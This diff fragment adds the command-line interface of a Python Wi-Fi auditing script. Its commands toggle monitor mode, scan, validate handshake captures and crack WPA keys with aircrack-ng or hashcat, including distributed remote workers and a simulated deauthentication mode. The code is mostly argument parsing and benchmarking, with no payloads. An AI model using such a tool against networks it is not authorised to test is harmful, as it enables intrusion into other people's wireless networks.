+              f"{result['mb_per_s'] or '-'}\t{format_size(result['peak_kb'] * 1024)}")
+    results = suite.run(progress)
+    if args.save:
+        # Indented, so a changed baseline reads as a per-stage diff in review
+        atomic_write_json(os.path.abspath(args.save), suite.document(), indent=1)
+        print(f"Saved {len(results)} result(s) to {args.save}", file=sys.stderr)
+    if args.compare:
+        with open(args.compare) as f:
+            baseline = json.load(f)
+        regressions, skipped = BenchmarkSuite.compare(results, baseline, args.tolerance)
+        for stage, reason in skipped:
+            print(f"SKIPPED {stage}: {reason}", file=sys.stderr)
+        for stage, metric, old, new in regressions:
+            print(f"REGRESSION {stage} {metric}: {old} -> {new}", file=sys.stderr)
+        if regressions:
+            return 1
+        if len(skipped) == len(results):
+            print(f"Nothing compared: no stage matches {args.compare} (--quick against a full baseline?)", file=sys.stderr)
+            return 2
+        print(f"No regressions against {args.compare} in {len(results) - len(skipped)} of {len(results)} stage(s) "
+              f"(tolerance {args.tolerance:.0%})", file=sys.stderr)
+    return 0
+
+def cmd_simulated_tool(app, args):
+    """airodump-ng/aireplay-ng as started by SimulatedBackend."""
+    if args.tool == 'aireplay-ng':
+        try:
+            while True:
+                print(f"{time.strftime('%H:%M:%S')}  Sending DeAuth (code 7) to broadcast -- BSSID: [{args.bssid}]", flush=True)
+                time.sleep(1)
+        except KeyboardInterrupt:
+            return 0
+    frequencies = {int(f) for f in args.frequencies.split(',')} if args.frequencies else None
+    simulator = AirodumpSimulator(
+        args.aps, args.stations, churn=args.churn, growth=args.growth, seed=args.seed, frequencies=frequencies,
+        bssid=args.bssid, handshake_after=args.handshake_after, interval=args.interval
+    )
+    return simulator.run(args.write)
+
+def build_parser():
+    parser = argparse.ArgumentParser(
+        prog='wificracker.py',
+        description="Wi-Fi auditing helper. Without a command the interactive menu is started."
+    )
+    simulator = parser.add_argument_group('simulator', "run without radios or root, e.g. to load-test a scan")
+    simulator.add_argument('--simulate', action='store_true', help="simulate interfaces, airodump-ng and aireplay-ng")
+    simulator.add_argument('--sim-interfaces', type=int, default=2, metavar='N', help="wireless interfaces (default: 2)")
+    simulator.add_argument('--sim-aps', type=int, default=200, metavar='N', help="access points (default: 200)")
+    simulator.add_argument('--sim-stations', type=int, default=300, metavar='N', help="stations (default: 300)")
+    simulator.add_argument('--sim-churn', type=float, default=0.05, metavar='F',
+                           help="fraction of the rows that change per second (default: 0.05)")
+    simulator.add_argument('--sim-growth', type=float, metavar='N',
+                           help="new APs per second (default: all of them from the start)")
+    commands = parser.add_subparsers(dest='command', metavar='command')
+
+    status = commands.add_parser('status', help="show wireless interfaces and their modes")
+    status.add_argument('--json', action='store_true', help="print JSON")
+    status.set_defaults(func=cmd_status)
+
+    monitor = commands.add_parser('monitor', help="switch interfaces to monitor mode (on) or managed mode (off)")
+    monitor.add_argument('state', choices=['on', 'off'])
+    monitor.add_argument('interfaces', nargs='+', metavar='interface')
+    monitor.set_defaults(func=cmd_monitor)
+
+    scan = commands.add_parser('scan', help="scan for N seconds and print the networks found")
+    scan.add_argument('interfaces', nargs='+', metavar='interface',
+                      help="interface(s) in monitor mode; several split the channels between them")
+    scan.add_argument('-b', '--bands', nargs='+', choices=sorted(BANDS), default=['2.4', '5'],
+                      help="bands to split across several interfaces (default: 2.4 5)")
+    scan.add_argument('-d', '--duration', type=float, default=15, help="seconds to scan (default: 15)")
+    scan.add_argument('-f', '--format', choices=['json', 'csv'], default='json')
+    scan.add_argument('-o', '--output', help="write to a file instead of stdout")
+    scan.add_argument('--stats', action='store_true', help="report refresh latency and CPU use (always on with --simulate)")
+    scan.set_defaults(func=cmd_scan)
+
+    coverage = commands.add_parser('coverage', help="simulate how fast 1..N adapters find every network")
+    coverage.add_argument('--from', dest='source', metavar='CSV', help="take the AP channels from a recorded airodump-ng CSV")
+    coverage.add_argument('--aps', type=int, default=150, help="simulated APs when no CSV is given (default: 150)")
+    coverage.add_argument('-a', '--adapters', type=int, nargs='+', default=[1, 2, 3, 4])
+    coverage.add_argument('-b', '--bands', nargs='+', choices=sorted(BANDS), default=['2.4', '5'])
+    coverage.add_argument('--seed', type=int, default=0)
+    coverage.set_defaults(func=cmd_coverage)
+
+    captures = commands.add_parser('captures', help="list the crackable captures in one or more directories")
+    captures.add_argument('directories', nargs='*', default=['.'], metavar='directory')
+    captures.add_argument('-a', '--all', action='store_true', help="also list captures without a usable handshake or PMKID")
+    captures.add_argument('--json', action='store_true', help="print JSON")
+    captures.set_defaults(func=cmd_captures)
+
+    compact = commands.add_parser('compact', help="keep only the frames needed to crack a capture")
+    compact.add_argument('capture')
+    output = compact.add_mutually_exclusive_group()
+    output.add_argument('-o', '--output', help="output file (default: <capture>-compact.cap)")
+    output.add_argument('-i', '--in-place', action='store_true', help="replace the capture itself")
+    compact.set_defaults(func=cmd_compact)
+
+    history = commands.add_parser('history', help="query networks seen in earlier scans")
+    history.add_argument('--bssid')
+    history.add_argument('--essid')
+    history.add_argument('--channel', type=int)
+    history.add_argument('--since', help="only seen at or after this time, e.g. '2025-01-31' or '2025-01-31 18:00'")
+    history.add_argument('--limit', type=int)
+    history.add_argument('--series', metavar='BSSID', help="print the observations of one BSSID over time")
+    history.add_argument('--json', action='store_true', help="print JSON")
+    history.set_defaults(func=cmd_history)
+
+    validate = commands.add_parser('validate', help="check a capture for usable handshakes/PMKIDs")
+    validate.add_argument('capture')
+    validate.add_argument('--json', action='store_true', help="print the full capture report as JSON")
+    validate.set_defaults(func=cmd_validate)
+
+    crack = commands.add_parser('crack', help="crack a capture with a wordlist")
+    crack.add_argument('capture')
+    crack.add_argument('-w', '--wordlist', required=True, action='append', help="wordlist (repeat to merge several)")
+    crack.add_argument('-e', '--engine', choices=['cpu', 'gpu'], default='gpu', help="aircrack-ng (cpu) or hashcat (gpu)")
+    crack.add_argument('-b', '--bssid', help="network to attack (required for cpu with several networks)")
+    crack.add_argument('-n', '--normalize', action='store_true', help="drop invalid lengths and duplicates first")
+    crack.add_argument('-s', '--session', help="session name, for resuming from the menu")
+    crack.add_argument('--workers', type=int, metavar='N',
+                       help="cpu: split the wordlist across N local aircrack-ng processes (no pause/resume)")
+    crack.add_argument('--remote', action='append', metavar='HOST:PORT', help="cpu: also use a 'worker' on another machine")
+    crack.add_argument('--token', help="shared token of the remote workers")
+    crack.add_argument('--scaling', type=int, nargs='+', metavar='N',
+                       help="cpu: run once per local worker count and report how throughput scales")
+    crack.set_defaults(func=cmd_crack)
+
+    batch = commands.add_parser('batch', help="crack several captures in one hashcat pass")
+    batch.add_argument('captures', nargs='*', metavar='capture',
+                       help="captures, or directories to take every crackable capture from (default: .)")
+    batch.add_argument('-w', '--wordlist', required=True, action='append', help="wordlist (repeat to merge several)")
+    batch.add_argument('-n', '--normalize', action='store_true', help="drop invalid lengths and duplicates first")
+    batch.set_defaults(func=cmd_batch)
+
+    worker = commands.add_parser('worker', help="crack wordlist shards for 'crack --remote' on another machine")
+    worker.add_argument('--listen', default='127.0.0.1:7878', metavar='HOST:PORT',
+                        help="default: 127.0.0.1:7878; other addresses need --token")
+    worker.add_argument('--slots', type=int, help="shards cracked at once (default: one per core)")
+    worker.add_argument('--token', help="require this token from the coordinator")
+    worker.set_defaults(func=cmd_worker)
+
+    bench = commands.add_parser('bench', help="benchmark parsing, capture and wordlist handling on synthetic data")
+    bench.add_argument('--quick', action='store_true', help="smaller inputs and a single run per stage")
+    bench.add_argument('--repeat', type=int, default=3, help="runs per stage, the best is reported (default: 3)")
+    bench.add_argument('--save', metavar='JSON', help="save the results, e.g. benchmarks/baseline.json")
+    bench.add_argument('--compare', metavar='JSON', help="exit with 1 if a stage is slower or larger than this baseline, "
+                                                          "2 if no stage could be compared")
+    bench.add_argument('--tolerance', type=float, default=0.25, help="allowed regression (default: 0.25 = 25%%)")
+    bench.set_defaults(func=cmd_bench)
+
+    # Started by SimulatedBackend in place of the real tools, not listed in the help
+    tool = commands.add_parser('simulated-tool')
+    tool.add_argument('tool', choices=['airodump-ng', 'aireplay-ng'])
+    tool.add_argument('interface')
+    tool.add_argument('--aps', type=int, default=200)
+    tool.add_argument('--stations', type=int, default=300)
+    tool.add_argument('--churn', type=float, default=0.05)
+    tool.add_argument('--growth', type=float)
+    tool.add_argument('--seed', type=int, default=0)
+    tool.add_argument('--handshake-after', type=float, default=5.0)
+    tool.add_argument('--interval', type=float, default=1.0)
+    tool.add_argument('--frequencies')
+    tool.add_argument('--bssid')
+    tool.add_argument('--write')
+    tool.add_argument('--output-format', choices=['csv', 'pcap'], default='csv')
+    tool.set_defaults(func=cmd_simulated_tool)
+    return parser
+
+def main(argv=None):
+    args = build_parser().parse_args(argv)
+    if args.command == 'simulated-tool':
+        return args.func(None, args)
+    backend = None
+    if args.simulate:
+        backend = SimulatedBackend(
+            interfaces=args.sim_interfaces, aps=args.sim_aps, stations=args.sim_stations,
+            churn=args.sim_churn, growth=args.sim_growth
+        )
+    if args.command is None:
+        # The script is intended for Linux (Kali)
+        if sys.platform != "linux":
+            print(f"{Colors.FAIL}This script is designed for Linux systems and may not work correctly.{Colors.ENDC}")
+            return 1
+        app = WifiCracker(backend=backend)
+        app.run()
+        return 0
+    app = WifiCracker(banner=False, backend=backend)
+    try:
+        return args.func(app, args)
+    except KeyboardInterrupt:
+        return 130
+
+if __name__ == "__main__":
+    sys.exit(main())